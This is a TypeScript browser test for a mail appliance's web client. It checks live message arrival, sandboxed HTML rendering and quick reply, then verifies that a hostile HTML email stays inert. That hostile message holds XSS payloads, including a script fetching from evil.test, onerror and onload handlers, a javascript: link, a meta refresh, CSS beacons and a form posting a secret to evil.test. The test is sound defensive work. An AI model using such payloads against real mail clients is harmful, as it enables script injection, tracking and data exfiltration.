/**
 * The core mail screens in real headless Chromium, against one appliance on loopback with Postfix's
 * smtp-sink as remote.test's MX: log in and name the device; a message sent in over SMTP appears in
 * the timeline live (no reload) with its PI badge; open it, its HTML renders in the sandboxed
 * iframe; quick reply with Ctrl+Enter reaches the sink and the Sent copy shows in the discussion.
 * Then a hostile HTML message (scripts, event handlers, remote images, CSS url(), a form, a meta
 * refresh) is opened: nothing runs, nothing but 127.0.0.1 is requested, the page does not move.
 */
import t from 'tap';
import nodemailer from 'nodemailer';
import { startApi, remoteMx, ALICE } from '../helpers/api-app.js';
import { startSink, waitFor } from '../helpers/smtp-sink.js';
import { chromiumSkip } from '../helpers/browser.js';
import { catalogue, deskLoggedIn } from '../helpers/web-app.js';

const c = catalogue('en');
const T = { timeout: 120_000, skip: chromiumSkip() };

async function smtpIn(port: number, raw: string): Promise<void> {
  const transport = nodemailer.createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true, name: 'mx.remote.test' });
  try {
    await transport.sendMail({ envelope: { from: 'bob@remote.test', to: [ALICE.address] }, raw });
  } finally {
    transport.close();
  }
}

function mail(subject: string, htmlBody: string, messageId: string, from = 'Bob Remote <bob@remote.test>'): string {
  return [
    `From: ${from}`, `To: ${ALICE.address}`, `Subject: ${subject}`, `Message-ID: <${messageId}@remote.test>`,
    'Date: Sun, 01 Mar 2026 09:00:00 +0000', 'MIME-Version: 1.0', 'Content-Type: multipart/alternative; boundary="b1"', '',
    '--b1', 'Content-Type: text/plain; charset=utf-8', '', 'plain version', '',
    '--b1', 'Content-Type: text/html; charset=utf-8', '', htmlBody, '', '--b1--', '',
  ].join('\r\n');
}

t.test('mail flow: live arrival with PI, sandboxed HTML, quick reply to a remote MX, Sent copy; a hostile message stays inert', T, async (t) => {
  const sink = await startSink(t);
  const h = await startApi(t, { ...remoteMx(sink.port) });
  const base = `http://127.0.0.1:${h.http}`;
  const { desk, page } = await deskLoggedIn(t, base, c, ALICE);
  await page.getByText(c['mail.empty']!).waitFor();
  await page.evaluate(() => ((window as unknown as { notReloaded: boolean }).notReloaded = true));

  // --- a message over SMTP appears live ------------------------------------------------------------
  await smtpIn(h.smtp, mail('Jam recipes', '<p>Hello <b class="x">Alice</b>, the <i>jam</i> recipe.</p>', 'jam1'));
  const row = page.locator('li.discussion', { hasText: 'Jam recipes' });
  await row.waitFor();
  t.ok(await page.evaluate(() => (window as unknown as { notReloaded?: boolean }).notReloaded), 'appeared without a reload');
  t.equal(await row.locator('button.pi').count(), 1, 'with its PI badge');
  t.match(await row.textContent(), /Bob Remote/, 'with its participant');

  // --- open it: the HTML in a sandboxed iframe -----------------------------------------------------
  await row.locator('a.summary').click();
  await page.getByRole('heading', { name: 'Jam recipes' }).waitFor();
  const frame = page.locator('.message-html iframe');
  await frame.waitFor();
  t.equal(await frame.getAttribute('sandbox'), 'allow-popups allow-popups-to-escape-sandbox', 'sandboxed: no scripts, no same-origin, links open in a new tab');
  await page.frameLocator('.message-html iframe').getByText('the jam recipe', { exact: false }).waitFor();
  await page.locator('.message-head button.pi').click();
  await page.locator('.message-head .pi-pop').getByRole('link', { name: c['pi.help_link'] }).waitFor();
  await page.keyboard.press('Escape');

  // --- quick reply, Ctrl+Enter: to the sink, and the Sent copy in the discussion -------------------
  await page.locator('#quick-reply').fill('Thanks Bob, sending mine soon.');
  await page.locator('#quick-reply').press('Control+Enter');
  await page.locator('.send-status').getByText('bob@remote.test', { exact: false }).waitFor();
  // the sink writes its dump file as the data comes: wait for the whole message
  await waitFor(() => sink.dumps().some((d) => d.text.includes('sending mine soon')), 20_000, 'the reply at the sink');
  const dump = sink.dumps().find((d) => d.text.includes('sending mine soon'))!;
  t.same(dump.rcpt, ['<bob@remote.test>'], 'the reply went to Bob');
  t.match(dump.text, /In-Reply-To: <jam1@remote\.test>/, 'threaded');
  t.match(dump.text, /Thanks Bob, sending mine soon\./, 'with the typed text');
  await page.locator('ol.messages > li').nth(1).waitFor();
  t.equal(await page.locator('ol.messages > li').count(), 2, 'the Sent copy is in the discussion');
  await page.locator('ol.messages').getByText('Thanks Bob, sending mine soon.').waitFor();
  await page.locator('.send-status').getByText('Delivered to remote.test', { exact: false }).waitFor({ timeout: 20_000 });

  // --- a hostile HTML message ----------------------------------------------------------------------
  const hostile = [
    '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">',
    '<script>window.top.pwned = 1; parent.pwned = 1; fetch("http://evil.test/script")</script>',
    '<img src="http://evil.test/pixel.png" onerror="parent.pwned=2">',
    '<img src="x" onerror="parent.pwned=3">',
    '<div style="background:url(http://evil.test/css.png)">styled</div>',
    '<style>body { background: url(http://evil.test/style.png) }</style>',
    '<form action="http://evil.test/form" method="post"><input name="p" value="secret"><button>Go</button></form>',
    '<a href="javascript:parent.pwned=4">click</a>',
    '<svg onload="parent.pwned=5"></svg><iframe src="http://evil.test/frame"></iframe>',
    '<p>Hostile body text</p>',
  ].join('\n');
  const before = desk.log.requests.length;
  await page.goto(base + '/#/timeline');
  await page.evaluate(() => ((window as unknown as { notReloaded: boolean }).notReloaded = true));
  // another sender, so another discussion; spam shown in case the filter judged it so
  await page.getByLabel(c['mail.show_spam']!).check();
  await smtpIn(h.smtp, mail('Totally safe', hostile, 'evil1', 'Mallory <mallory@remote.test>'));
  await page.locator('li.discussion', { hasText: 'Totally safe' }).locator('a.summary').click();
  await page.frameLocator('.message-html iframe').getByText('Hostile body text').waitFor();
  await page.waitForTimeout(1500); // a refresh or a late load would have happened by now
  const hash = new URL(page.url()).hash;
  t.match(hash, /^#\/discussions\/\d+$/, 'no navigation happened');
  t.equal(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned), undefined, 'nothing ran');
  t.ok(await page.evaluate(() => (window as unknown as { notReloaded?: boolean }).notReloaded), 'the page did not reload');
  t.equal(page.frames().length, 2, 'the message frame only, nothing nested loaded');
  const remote = desk.log.requests.filter((u) => !u.startsWith('http://127.0.0.1:') && !u.startsWith('data:') && !u.startsWith('about:'));
  t.same(remote, [], 'no request but to 127.0.0.1');
  t.ok(desk.log.requests.length > before, 'the request log is live');
  t.same(desk.log.pageErrors, [], 'no uncaught exception');
});
